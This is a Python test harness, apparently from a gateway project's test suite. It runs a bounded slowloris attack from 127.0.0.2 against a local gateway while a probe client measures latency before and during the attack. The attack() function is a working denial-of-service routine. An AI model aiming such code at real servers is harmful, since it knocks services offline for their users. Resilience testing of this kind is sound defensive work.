#!/usr/bin/python3
"""slowloris.py [--port P] [--conns N] [--seconds S] [--path /x]

A slowloris attack beside a probe client, for tests/README.md's attacks table.
The attacker (source 127.0.0.2) keeps N connections open, each sending a
request head one header line every 2 s and never finishing it, and opens a
new one whenever the gateway closes one. The probe (source 127.0.0.1) sends
keep-alive GETs one after the other on one connection, first alone for S
seconds, then during the attack for S seconds. Prints the probe's p50/p99
in both phases, the ratio, how many attacking connections the gateway held
at most, and how long each was held (first byte to close). Bounded: 2 S
seconds, N connections.
"""
import argparse
import selectors
import socket
import threading
import time


def probe(port, path, seconds, out):
    s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(5)
    req = ("GET %s HTTP/1.1\r\nHost: probe\r\n\r\n" % path).encode()
    lat, errors = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            s.sendall(req)
            buf = b""
            while b"\r\n\r\n" not in buf:
                d = s.recv(65536)
                if not d:
                    raise ConnectionError("closed")
                buf += d
            head, _, body = buf.partition(b"\r\n\r\n")
            length = 0
            for line in head.split(b"\r\n")[1:]:
                k, _, v = line.partition(b":")
                if k.strip().lower() == b"content-length":
                    length = int(v)
            while len(body) < length:
                d = s.recv(65536)
                if not d:
                    raise ConnectionError("closed")
                body += d
            if not head.startswith(b"HTTP/1.1 200"):
                errors += 1
            lat.append(time.monotonic() - t0)
        except (OSError, ConnectionError):
            errors += 1
            s.close()
            s = socket.create_connection(("127.0.0.1", port))
            s.settimeout(5)
    s.close()
    lat.sort()
    out["n"] = len(lat)
    out["errors"] = errors
    out["p50"] = lat[len(lat) // 2] * 1000 if lat else 0
    out["p99"] = lat[int(len(lat) * 0.99)] * 1000 if lat else 0


def attack(port, conns, seconds, stats):
    sel = selectors.DefaultSelector()
    live = {}
    end = time.monotonic() + seconds

    def open_one():
        s = socket.socket()
        s.bind(("127.0.0.2", 0))
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        live[s] = [time.monotonic(), 0.0]  # first byte sent, next send
        sel.register(s, selectors.EVENT_READ)

    for _ in range(conns):
        open_one()
    while time.monotonic() < end:
        now = time.monotonic()
        for s, st in list(live.items()):
            if now >= st[1]:
                try:
                    s.send(b"GET / HTTP/1.1\r\n" if st[1] == 0 else b"X-a: b\r\n")
                    if st[1] == 0:
                        st[0] = now
                    st[1] = now + 2
                except OSError:
                    pass
        # Readable: the gateway answered (408) or closed; either way this
        # one is over, and a new one takes its place.
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            held = time.monotonic() - live[s][0]
            stats["closed"] += 1
            stats["held_max"] = max(stats["held_max"], held)
            sel.unregister(s)
            s.close()
            del live[s]
            open_one()
        stats["open_max"] = max(stats["open_max"], len(live))
    for s in list(live):
        s.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--seconds", type=float, default=15)
    ap.add_argument("--path", default="/x")
    a = ap.parse_args()
    idle = {}
    probe(a.port, a.path, a.seconds, idle)
    stats = {"closed": 0, "held_max": 0.0, "open_max": 0}
    t = threading.Thread(target=attack, args=(a.port, a.conns, a.seconds + 1, stats))
    t.start()
    time.sleep(1)
    busy = {}
    probe(a.port, a.path, a.seconds, busy)
    t.join()
    print("probe alone:        %d requests, %d errors, p50 %.2f ms, p99 %.2f ms"
          % (idle["n"], idle["errors"], idle["p50"], idle["p99"]))
    print("probe under attack: %d requests, %d errors, p50 %.2f ms, p99 %.2f ms"
          % (busy["n"], busy["errors"], busy["p50"], busy["p99"]))
    print("p99 ratio: %.2fx; attacking connections closed by the gateway: %d, longest held %.1f s"
          % (busy["p99"] / idle["p99"] if idle["p99"] else 0, stats["closed"], stats["held_max"]))


if __name__ == "__main__":
    main()
